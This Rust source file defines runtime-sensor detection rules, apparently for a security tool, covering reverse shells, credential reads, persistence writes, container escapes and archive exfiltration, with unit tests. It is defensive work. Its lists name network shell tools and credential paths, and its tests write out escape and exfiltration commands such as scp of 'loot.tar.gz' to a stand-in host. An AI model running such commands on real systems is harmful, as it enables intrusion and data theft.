//! What only a runtime sensor sees, as rules (family `sensor`): a shell or network tool
//! connecting out, credential files read, account and persistence files written, escapes to
//! the host (`nsenter -t 1`, host disk mounts), setuid to root, archives sent out, and the
//! sensors' own alerts (Falco). Each takes one event with the process that did it.

use std::borrow::Cow;
use std::net::IpAddr;

use super::event::{Act, Conn, Event, FileOp, Proc};
use crate::model::{role, Family, IocKind, IocRef, RuleDef, RuleKind, Severity};

/// One rule: its declaration and why it matters (for the summary).
pub(crate) struct SensorRule {
    pub def: RuleDef,
    pub why: &'static str,
}

const fn rule(
    id: &'static str,
    severity: Severity,
    category: &'static str,
    attack: &'static str,
    title: &'static str,
    why: &'static str,
) -> SensorRule {
    SensorRule { def: RuleDef::new(id, RuleKind::of(Family::Sensor), severity, category, attack, title), why }
}

pub(crate) static CONNECT_SHELL: SensorRule = rule(
    "sensor.connect.shell",
    Severity::Critical,
    "command-and-control",
    "T1059.004,T1095",
    "Shell process connected out (reverse shell)",
    "A shell holding a network connection of its own is a reverse shell (/dev/tcp, a socket handed to sh)",
);
pub(crate) static CONNECT_PUBLIC: SensorRule = rule(
    "sensor.connect.public",
    Severity::High,
    "command-and-control",
    "T1071,T1105",
    "Network tool or interpreter connected to a public address",
    "nc, curl, socat or a script interpreter reaching the internet from a workload is a download, a callback or exfiltration until shown otherwise",
);
pub(crate) static CREDENTIAL_READ: SensorRule = rule(
    "sensor.file.credential-read",
    Severity::High,
    "credential-access",
    "T1552.001",
    "Credential file or keystore read",
    "Keystores, private keys, service-account tokens and password hashes are what an intruder reads to move on",
);
pub(crate) static ACCOUNT_WRITE: SensorRule = rule(
    "sensor.file.account-write",
    Severity::High,
    "persistence",
    "T1136.001,T1098",
    "Account database written",
    "Writing /etc/passwd, /etc/shadow, /etc/group or sudoers adds or changes accounts",
);
pub(crate) static PERSISTENCE_WRITE: SensorRule = rule(
    "sensor.file.persistence-write",
    Severity::High,
    "persistence",
    "T1053.003,T1098.004,T1543.002",
    "Persistence file written (cron, static pod, ssh key, service)",
    "Cron entries, static-pod manifests, authorized_keys, services and preload files run the attacker's code again later",
);
pub(crate) static ESCAPE: SensorRule = rule(
    "sensor.escape.host",
    Severity::Critical,
    "privilege-escalation",
    "T1611",
    "Escape to the host (nsenter -t 1, host disk mount, chroot into the host)",
    "Entering PID 1's namespaces, mounting the host's disk or chrooting into the host's root leaves the container",
);
pub(crate) static SETUID_ROOT: SensorRule = rule(
    "sensor.setuid-root",
    Severity::High,
    "privilege-escalation",
    "T1548.001",
    "Process became root (setuid 0)",
    "A process that did not run as root switching to uid 0 is a privilege escalation (setuid binary, exploit)",
);
pub(crate) static EXFIL: SensorRule = rule(
    "sensor.exfil.archive",
    Severity::High,
    "exfiltration",
    "T1048,T1560",
    "Archive sent out (scp, curl -T, rsync)",
    "Copying an archive to another host with scp, rsync or an upload is how collected data leaves",
);
/// A sensor's own alert; the finding's title and severity are the alert's.
pub(crate) static ALERT: SensorRule = SensorRule {
    def: RuleDef {
        id: Cow::Borrowed("sensor.falco"),
        kind: RuleKind::of(Family::Sensor),
        severity: Severity::Critical,
        category: Cow::Borrowed("detection"),
        attack: Cow::Borrowed(""),
        title: Cow::Borrowed("Falco alert (the rule and priority are Falco's)"),
        credit: Cow::Borrowed("Falco (falcosecurity/rules), as exported"),
    },
    why: "Falco's rule matched on the host",
};

static ALL: &[&SensorRule] = &[
    &CONNECT_SHELL,
    &CONNECT_PUBLIC,
    &CREDENTIAL_READ,
    &ACCOUNT_WRITE,
    &PERSISTENCE_WRITE,
    &ESCAPE,
    &SETUID_ROOT,
    &EXFIL,
    &ALERT,
];

/// Every sensor rule's declaration.
pub(crate) fn defs() -> Vec<&'static RuleDef> {
    ALL.iter().map(|r| &r.def).collect()
}

/// One rule hit on one event: the rule, what was seen, the indicators.
pub(crate) struct Hit {
    pub rule: &'static SensorRule,
    /// The rule's severity, or lower when the evidence says less (a download tool reaching
    /// the internet is less than a raw socket tool doing it).
    pub severity: Severity,
    pub detail: String,
    pub iocs: Vec<IocRef>,
}

const SHELLS: &[&str] =
    &["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish", "busybox"];
const NET_TOOLS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "curl",
    "wget",
    "telnet",
    "ssh",
    "scp",
    "sftp",
    "ftp",
    "tftp",
    "rsync",
    "openssl",
    "pwncat",
    "nmap",
    "masscan",
];
/// Tools that only open raw sockets (no protocol of their own to do a normal job with).
const RAW_SOCKET_TOOLS: &[&str] =
    &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "pwncat", "openssl"];
const INTERPRETERS: &[&str] =
    &["python", "perl", "php", "ruby", "node", "nodejs", "lua", "tclsh", "awk", "gawk"];

/// A program's name without a version suffix (`python3.11` -> `python`).
fn base(program: &str) -> &str {
    program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

fn is_shell(p: &str) -> bool {
    SHELLS.contains(&p)
}

fn is_tool_or_interpreter(p: &str) -> bool {
    NET_TOOLS.contains(&p) || INTERPRETERS.contains(&base(p))
}

/// Whether an address is routed on the internet (not private, loopback, link-local, CGNAT,
/// multicast, documentation or unspecified).
pub(crate) fn is_public(ip: &str) -> bool {
    let Ok(addr) = ip.trim_matches(['[', ']']).parse::<IpAddr>() else { return false };
    match addr {
        IpAddr::V4(v4) => {
            let o = v4.octets();
            !(v4.is_private()
                || v4.is_loopback()
                || v4.is_link_local()
                || v4.is_unspecified()
                || v4.is_broadcast()
                || v4.is_multicast()
                || v4.is_documentation()
                || (o[0] == 100 && (64..128).contains(&o[1])))
        }
        IpAddr::V6(v6) => {
            if let Some(v4) = v6.to_ipv4_mapped() {
                return is_public(&v4.to_string());
            }
            let s = v6.segments();
            !(v6.is_loopback()
                || v6.is_unspecified()
                || v6.is_multicast()
                || (s[0] & 0xfe00) == 0xfc00
                || (s[0] & 0xffc0) == 0xfe80
                || s[0] == 0x2001 && s[1] == 0x0db8)
        }
    }
}

fn is_loopback_or_none(ip: &str) -> bool {
    match ip.trim_matches(['[', ']']).parse::<IpAddr>() {
        Ok(a) => a.is_loopback() || a.is_unspecified(),
        Err(_) => true,
    }
}

/// `ip:port`, `[v6]:port` for IPv6.
pub(crate) fn endpoint(ip: &str, port: u16) -> String {
    if ip.contains(':') {
        format!("[{ip}]:{port}")
    } else {
        format!("{ip}:{port}")
    }
}

fn callback_iocs(c: &Conn) -> Vec<IocRef> {
    vec![
        IocRef { kind: IocKind::Ip, value: c.dst_ip.clone(), role: role::CALLBACK },
        IocRef { kind: IocKind::Endpoint, value: endpoint(&c.dst_ip, c.dst_port), role: role::CALLBACK },
    ]
}

const CREDENTIAL_NAMES: &[&str] = &[
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    ".git-credentials",
    ".pgpass",
    ".netrc",
    ".my.cnf",
    "credentials.db",
];
const CREDENTIAL_SUFFIXES: &[&str] = &[".keystore", ".jks", ".p12", ".pfx", ".kdbx", ".pem.key"];
const CREDENTIAL_PATHS: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/security/opasswd",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/run/secrets/kubernetes.io/serviceaccount/token",
    "/etc/kubernetes/admin.conf",
    "/etc/kubernetes/pki/ca.key",
];
const CREDENTIAL_TAILS: &[&str] =
    &["/.aws/credentials", "/.kube/config", "/.docker/config.json", "/.azure/accessTokens.json"];

fn is_credential(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    CREDENTIAL_PATHS.contains(&path)
        || CREDENTIAL_NAMES.contains(&name)
        || CREDENTIAL_SUFFIXES.iter().any(|s| name.ends_with(s))
        || CREDENTIAL_TAILS.iter().any(|t| path.ends_with(t))
        || path.starts_with("/etc/ssh/ssh_host_") && path.ends_with("_key")
}

const ACCOUNT_FILES: &[&str] = &["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/sudoers"];

fn is_account(path: &str) -> bool {
    ACCOUNT_FILES.contains(&path) || path.starts_with("/etc/sudoers.d/")
}

const PERSISTENCE_PREFIXES: &[&str] = &[
    "/etc/cron",
    "/var/spool/cron/",
    "/etc/kubernetes/manifests/",
    "/etc/systemd/system/",
    "/lib/systemd/system/",
    "/usr/lib/systemd/system/",
    "/etc/init.d/",
    "/etc/profile.d/",
    "/etc/update-motd.d/",
];
const PERSISTENCE_FILES: &[&str] =
    &["/etc/rc.local", "/etc/ld.so.preload", "/etc/crontab", "/etc/profile", "/etc/bash.bashrc"];

fn is_persistence(path: &str) -> bool {
    PERSISTENCE_FILES.contains(&path)
        || PERSISTENCE_PREFIXES.iter().any(|p| path.starts_with(p))
        || path.contains("/.ssh/authorized_keys")
        || path.ends_with("/.bashrc")
        || path.ends_with("/.profile")
}

const ARCHIVES: &[&str] =
    &[".tar", ".tgz", ".tar.gz", ".gz", ".tbz2", ".bz2", ".xz", ".txz", ".zst", ".zip", ".7z", ".rar"];

fn is_archive(arg: &str) -> bool {
    let a = arg.trim_start_matches('@').to_ascii_lowercase();
    ARCHIVES.iter().any(|s| a.ends_with(s) || a.contains(&format!("{s}:")))
}

/// `user@host:path` / `host:path` of scp and rsync: the host.
fn remote_host(arg: &str) -> Option<&str> {
    let (left, _) = arg.split_once(':')?;
    let host = left.rsplit('@').next().unwrap_or(left);
    (!host.is_empty() && !host.contains('/')).then_some(host)
}

fn host_ioc(host: &str) -> IocRef {
    let kind = if host.parse::<IpAddr>().is_ok() { IocKind::Ip } else { IocKind::Domain };
    IocRef { kind, value: host.to_string(), role: role::CALLBACK }
}

/// Escapes a command line asks for: `nsenter -t 1` (or `--target 1`), a host disk mounted,
/// a chroot into the host's root.
fn escape(program: &str, args: &[&str]) -> Option<String> {
    match program {
        "nsenter" => {
            let target_one = args.windows(2).any(|w| matches!(w, ["-t" | "--target", "1"]))
                || args.iter().any(|a| matches!(*a, "-t1" | "--target=1"));
            target_one.then(|| "nsenter into PID 1's namespaces (the host's)".to_string())
        }
        "mount" => args
            .iter()
            .find(|a| {
                ["/dev/sd", "/dev/vd", "/dev/xvd", "/dev/nvme", "/dev/mapper/", "/dev/dm-"]
                    .iter()
                    .any(|d| a.starts_with(d))
            })
            .map(|d| format!("mount of the host's disk {d}")),
        "chroot" => args
            .iter()
            .find(|a| matches!(**a, "/host" | "/hostfs" | "/proc/1/root" | "/rootfs" | "/host/"))
            .map(|d| format!("chroot into {d}")),
        _ => None,
    }
}

/// Archives a command line sends to another host.
fn exfil(program: &str, args: &[&str]) -> Option<(String, Vec<IocRef>)> {
    match program {
        "scp" | "rsync" | "sftp" => {
            let archive = args.iter().find(|a| is_archive(a) && remote_host(a).is_none())?;
            let dest = args.iter().rev().find_map(|a| remote_host(a))?;
            Some((format!("{program} of {archive} to {dest}"), vec![host_ioc(dest)]))
        }
        "curl" => {
            let upload = args.windows(2).find_map(|w| match w {
                ["-T" | "--upload-file" | "-F" | "--form" | "--data-binary" | "-d", v] if is_archive(v) => {
                    Some(*v)
                }
                _ => None,
            })?;
            let url = args.iter().find(|a| a.contains("://"));
            let iocs =
                url.map(|u| vec![IocRef { kind: IocKind::Url, value: u.to_string(), role: role::CALLBACK }]);
            Some((
                format!("curl upload of {upload}{}", url.map(|u| format!(" to {u}")).unwrap_or_default()),
                iocs.unwrap_or_default(),
            ))
        }
        "wget" => {
            let file = args.iter().find_map(|a| a.strip_prefix("--post-file=")).filter(|f| is_archive(f))?;
            Some((format!("wget --post-file of {file}"), vec![]))
        }
        _ => None,
    }
}

/// The rules that hit `ev`, done by `proc` (the fullest record of its process).
pub(crate) fn evaluate(ev: &Event, proc: &Proc) -> Vec<Hit> {
    let program = proc.program();
    let mut out = Vec::new();
    let hit = |rule: &'static SensorRule, detail: String, iocs: Vec<IocRef>| Hit {
        rule,
        severity: rule.def.severity,
        detail,
        iocs,
    };
    match &ev.act {
        Act::Connect(c) => {
            let to = endpoint(&c.dst_ip, c.dst_port);
            if is_shell(base(program)) && !is_loopback_or_none(&c.dst_ip) {
                let mut h = hit(&CONNECT_SHELL, format!("{program} connected to {to}"), callback_iocs(c));
                // `bash -c 'echo > /dev/tcp/db/5432'` is also how some readiness probes
                // look: inside the network it is high, to the internet critical.
                if !is_public(&c.dst_ip) {
                    h.severity = Severity::High;
                }
                out.push(h);
            } else if is_tool_or_interpreter(program) && is_public(&c.dst_ip) {
                let mut h = hit(&CONNECT_PUBLIC, format!("{program} connected to {to}"), callback_iocs(c));
                // curl, wget and interpreters fetch and call APIs in normal operation; nc, socat
                // and telnet only open raw sockets.
                // Their address is then named, not known to be the attacker's.
                if !RAW_SOCKET_TOOLS.contains(&program) {
                    h.severity = Severity::Medium;
                    for i in &mut h.iocs {
                        i.role = role::MENTIONED;
                    }
                }
                out.push(h);
            }
        }
        Act::File(op, path) => match op {
            FileOp::Read if is_credential(path) => {
                out.push(hit(&CREDENTIAL_READ, format!("{program} read {path}"), vec![]));
            }
            FileOp::Write | FileOp::Create if is_account(path) => {
                out.push(hit(&ACCOUNT_WRITE, format!("{program} {} {path}", op.verb()), vec![]));
            }
            FileOp::Write | FileOp::Create if is_persistence(path) => {
                out.push(hit(&PERSISTENCE_WRITE, format!("{program} {} {path}", op.verb()), vec![]));
            }
            _ => {}
        },
        Act::Exec => {
            let words: Vec<&str> = proc.cmd.split_whitespace().collect();
            let args = words.get(1..).unwrap_or_default();
            if let Some(d) = escape(base(program), args) {
                out.push(hit(&ESCAPE, d, vec![]));
            }
            if let Some((d, iocs)) = exfil(program, args) {
                out.push(hit(&EXFIL, d, iocs));
            }
        }
        Act::Setuid(0) if proc.uid.is_some_and(|u| u != 0) => {
            out.push(hit(
                &SETUID_ROOT,
                format!("{program} (uid {}) called setuid(0)", proc.uid.unwrap_or_default()),
                vec![],
            ));
        }
        Act::Mount(what) if proc.container.is_some() => {
            out.push(hit(&ESCAPE, format!("mount from inside the container: {what}"), vec![]));
        }
        _ => {}
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Locator;

    fn ev(binary: &str, cmd: &str, act: Act) -> (Event, Proc) {
        let proc = Proc { binary: binary.into(), cmd: cmd.into(), uid: Some(1000), ..Default::default() };
        (Event { time: None, proc: proc.clone(), parent: None, act, locator: Locator::artifact("x") }, proc)
    }

    fn ids(binary: &str, cmd: &str, act: Act) -> Vec<String> {
        let (e, p) = ev(binary, cmd, act);
        evaluate(&e, &p).iter().map(|h| h.rule.def.id.to_string()).collect()
    }

    fn conn(ip: &str, port: u16) -> Act {
        Act::Connect(Conn { dst_ip: ip.into(), dst_port: port, ..Default::default() })
    }

    #[test]
    fn public_addresses() {
        for ip in ["64.225.45.153", "8.8.8.8", "2607:f8b0:4004:802::2004", "::ffff:1.1.1.1"] {
            assert!(is_public(ip), "{ip}");
        }
        for ip in [
            "10.88.0.6",
            "192.168.2.6",
            "127.0.0.1",
            "100.64.1.1",
            "169.254.169.254",
            "::1",
            "fd00::1",
            "fe80::1",
            "2001:db8::3",
            "garbage",
            "",
        ] {
            assert!(!is_public(ip), "{ip}");
        }
    }

    #[test]
    fn connects() {
        assert_eq!(ids("/usr/bin/nc", "nc x 443", conn("64.225.45.153", 443)), ["sensor.connect.public"]);
        assert!(ids("/usr/bin/nc", "nc x 443", conn("10.0.0.2", 443)).is_empty(), "private, not a shell");
        assert_eq!(ids("/bin/bash", "bash -i", conn("192.168.2.6", 443)), ["sensor.connect.shell"]);
        assert!(ids("/bin/bash", "bash", conn("127.0.0.1", 80)).is_empty());
        assert_eq!(
            ids("/usr/bin/python3.11", "python3 x.py", conn("1.2.3.4", 80)),
            ["sensor.connect.public"]
        );
        assert!(ids("/usr/sbin/nginx", "nginx", conn("1.2.3.4", 80)).is_empty());
        // Severity follows what the evidence says: the internet or not, raw socket tool or not.
        let sev = |binary: &str, act: Act| {
            let (e, p) = ev(binary, binary, act);
            evaluate(&e, &p).first().map(|h| (h.severity, h.iocs.first().map(|i| i.role)))
        };
        assert_eq!(
            sev("/bin/bash", conn("45.33.32.156", 4444)),
            Some((Severity::Critical, Some(role::CALLBACK)))
        );
        assert_eq!(sev("/bin/bash", conn("192.168.2.6", 443)), Some((Severity::High, Some(role::CALLBACK))));
        assert_eq!(
            sev("/usr/bin/nc", conn("64.225.45.153", 443)),
            Some((Severity::High, Some(role::CALLBACK)))
        );
        assert_eq!(
            sev("/usr/bin/curl", conn("142.250.180.196", 80)),
            Some((Severity::Medium, Some(role::MENTIONED)))
        );
    }

    #[test]
    fn files() {
        let f = |op, p: &str| Act::File(op, p.into());
        assert_eq!(
            ids("/usr/bin/cat", "cat", f(FileOp::Read, "/usr/share/es/config/elasticsearch.keystore")),
            ["sensor.file.credential-read"]
        );
        assert!(ids("/usr/bin/cat", "cat", f(FileOp::Read, "/etc/passwd")).is_empty());
        assert_eq!(ids("/usr/bin/vi", "vi", f(FileOp::Write, "/etc/passwd")), ["sensor.file.account-write"]);
        assert_eq!(
            ids("/bin/sh", "sh", f(FileOp::Create, "/etc/kubernetes/manifests/evil.yaml")),
            ["sensor.file.persistence-write"]
        );
        assert_eq!(
            ids("/bin/sh", "sh", f(FileOp::Write, "/root/.ssh/authorized_keys")),
            ["sensor.file.persistence-write"]
        );
        assert!(ids("/bin/sh", "sh", f(FileOp::Write, "/tmp/x")).is_empty());
    }

    #[test]
    fn execs() {
        assert_eq!(ids("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", Act::Exec), ["sensor.escape.host"]);
        assert_eq!(
            ids("/usr/bin/nsenter", "nsenter --target=1 --mount sh", Act::Exec),
            ["sensor.escape.host"]
        );
        assert!(ids("/usr/bin/nsenter", "nsenter -t 4242 -n ip a", Act::Exec).is_empty());
        assert_eq!(ids("/bin/mount", "mount /dev/sda1 /mnt", Act::Exec), ["sensor.escape.host"]);
        assert_eq!(
            ids("/usr/bin/scp", "scp /tmp/loot.tar.gz root@203.0.113.9:/x", Act::Exec),
            ["sensor.exfil.archive"]
        );
        assert_eq!(
            ids("/usr/bin/curl", "curl -T /tmp/db.zip https://x.example/up", Act::Exec),
            ["sensor.exfil.archive"]
        );
        assert!(ids("/usr/bin/scp", "scp a.txt host:/x", Act::Exec).is_empty());
        assert!(ids("/usr/bin/curl", "curl -o x.tar.gz https://x/", Act::Exec).is_empty());
    }

    #[test]
    fn setuid() {
        assert_eq!(ids("/tmp/x", "x", Act::Setuid(0)), ["sensor.setuid-root"]);
        assert!(ids("/tmp/x", "x", Act::Setuid(1000)).is_empty());
    }
}
